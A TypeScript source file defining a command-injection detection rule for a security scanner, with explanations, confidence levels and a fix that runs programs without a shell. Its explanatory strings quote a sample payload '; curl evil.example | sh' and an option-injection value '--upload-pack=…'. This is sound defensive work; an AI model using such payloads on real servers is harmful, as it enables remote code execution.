import { programRepairs } from '../../server/rule/fixes.ts';
import { type Flow, harmless, injectionDraft, rule } from '../../server/rule/rule.ts';

const shellWords = {
  does: 'becomes part of a shell command',
  remedy: 'Run the program without a shell and pass the value in its list of arguments.',
  confidence: 'high',
  attack: 'A value such as `; curl evil.example | sh` ends the command and runs another one on the server.',
} as const;

const programWords = {
  does: 'decides which program is run',
  remedy: 'Take the program from a fixed list.',
  confidence: 'high',
  attack: 'An attacker names any program of the server, such as a shell, and runs it.',
} as const;

const pathWords = {
  ...programWords,
  does: 'becomes part of the name of the program that is run',
  confidence: 'medium',
} as const;

const optionWords = {
  does: 'is an argument of a program that takes it for an option if it starts with a hyphen',
  remedy: 'Put `--` before it, or hold it against a pattern.',
  confidence: 'low',
  attack:
    'A value such as `--upload-pack=…` is read as an option, and options of this program run other programs.',
} as const;

/** Data of the request becomes part of a command that the server runs (CWE-78, CWE-77, CWE-88). */
export default rule<Flow>({
  id: 'command-injection',
  title: 'Request data becomes part of a command',
  owasp: ['API8:2019', 'API10:2023'],
  cwe: [78, 77, 88],
  kind: 'flow',
  to: ['shell-command', 'program', 'program-arguments'],
  stoppedBy: [...harmless, 'shell-quoted'],
  report: (flow, ask) => {
    const words = wordsFor(flow);
    return (
      words &&
      injectionDraft(flow, ask, {
        ...words,
        missing: 'Nothing on the way makes it harmless: no number, no fixed list, no pattern.',
        sink: `is run by \`${flow.name}\``,
      })
    );
  },
  fixes: {
    program: {
      title: 'Run the program without a shell',
      level: 'B',
      make: (flow, ask) => programRepairs(ask.workspace, flow),
    },
  },
});

function wordsFor({ target, arrival }: Flow) {
  const { before, part, earlier } = arrival.form;
  // Settings of the call (`{ cwd }`) are not what is run.
  if (part.some((name) => !/^(?:\d+|\*)$/.test(name))) return null;
  if (target === 'shell-command') return shellWords;
  if (target === 'program') return before ? pathWords : programWords;
  const isAfterHyphens = earlier.includes('--') || / -- /.test(before);
  return isAfterHyphens || /\S$/.test(before) ? null : optionWords;
}
